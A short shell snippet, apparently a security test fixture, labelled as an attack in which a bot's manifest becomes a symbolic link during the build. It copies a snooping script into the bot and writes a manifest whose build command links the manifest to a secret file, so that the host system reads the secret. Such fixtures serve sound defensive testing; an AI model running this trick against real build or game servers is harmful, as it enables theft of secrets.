# attack: the manifest becomes a link while the build runs
mkdir bot
cp "$SNOOP" bot/play.sh
printf 'run = "sh play.sh"\nbuild = "ln -sf %s skirmish.toml"\n' "$SECRET" > bot/skirmish.toml
